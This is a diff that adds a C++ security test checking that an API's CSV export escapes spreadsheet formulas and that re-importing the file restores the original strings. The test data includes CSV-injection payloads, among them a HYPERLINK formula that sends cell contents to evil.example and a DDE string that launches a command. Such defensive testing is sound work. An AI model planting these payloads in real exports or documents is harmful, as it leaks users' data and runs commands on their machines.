@@ -392,5 +392,39 @@ TEST(SecurityApi, UnknownKeysAreRefusedNamingTheClosestKnownKey) {
   EXPECT_EQ(server.Put("/api/v1/examples/" + id, got).status, 200);
 }
 
+// CSV injection: GET /examples/export?format=csv writes a text cell a spreadsheet would run as a
+// formula after an apostrophe (and one starting with an apostrophe after another), and
+// POST /examples/import takes exactly one off: another store gets the very same strings.
+TEST(SecurityApi, CsvExportWritesFormulasAsTextAndImportGivesThemBack) {
+  TestServer server;
+  const std::vector<std::string> texts = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
+                                          "@SUM(1,1)", "-5", "'", "'=", "'=1+1", "\t=1", "plain"};
+  for (size_t i = 0; i < texts.size(); ++i) {
+    Json e = MakeExample("formula " + std::to_string(i), texts[i]);  // the domain
+    e["explanation"] = texts[i];
+    e["client_id"] = "c" + std::to_string(i);
+    ASSERT_EQ(server.Post("/api/v1/examples", e).status, 201) << texts[i];
+  }
+  auto csv = server.Get("/api/v1/examples/export?format=csv");
+  ASSERT_EQ(csv.status, 200);
+  for (const char* cell : {"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"", ",'+cmd|' /C calc'!A0,",
+                           "\"'@SUM(1,1)\"", ",'-5,", ",'',", ",''=,", ",''=1+1,", ",'\t=1,", ",plain,"}) {
+    EXPECT_NE(csv.raw.find(cell), std::string::npos) << cell << " not in\n" << csv.raw;
+  }
+  for (const char* raw : {",=", ",+", ",@", ",-", ",\t"}) EXPECT_EQ(csv.raw.find(raw), std::string::npos) << raw;
+
+  TestServer other;
+  auto imported = other.PostRaw("/api/v1/examples/import", csv.raw, "text/csv");
+  ASSERT_EQ(imported.status, 201) << imported.raw;
+  auto back = other.Get("/api/v1/examples?page_size=100").body["examples"];
+  ASSERT_EQ(back.size(), texts.size());
+  for (const auto& e : back) {
+    const size_t i = std::stoul(e["client_id"].get<std::string>().substr(1));
+    EXPECT_EQ(e["explanation"], texts[i]);
+    EXPECT_EQ(e["domain"], texts[i]);
+    EXPECT_EQ(e["input"], Json({{"text", "formula " + std::to_string(i)}}));
+  }
+}
+
 }  // namespace
 }  // namespace exemplar::testing
